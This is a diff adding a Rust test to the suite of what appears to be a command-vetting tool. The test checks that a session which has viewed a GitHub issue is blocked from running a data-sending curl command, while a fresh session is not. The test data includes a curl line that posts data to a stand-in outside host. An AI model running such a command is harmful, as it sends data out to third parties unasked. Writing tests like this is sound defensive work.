@@ -27,6 +27,18 @@ fn what_was_downloaded_is_not_run_later() {
 }
 
 #[test]
+fn text_from_outside_is_remembered() {
+    let house = House::new();
+    let send = |session: &str| {
+        let line = "curl -d x=1 https://nobody-named.example/";
+        let options = ["check", "--surface", "unattended", "--session", session, "-c", line];
+        house.run(&options).code
+    };
+    assert_eq!(house.run(&["check", "--session", "one", "-c", "gh issue view 12"]).code, Some(0));
+    assert_eq!((send("one"), send("two")), (Some(4), Some(0)));
+}
+
+#[test]
 fn the_memory_is_private_and_named_safely() {
     use std::os::unix::fs::PermissionsExt;
     let house = House::new();
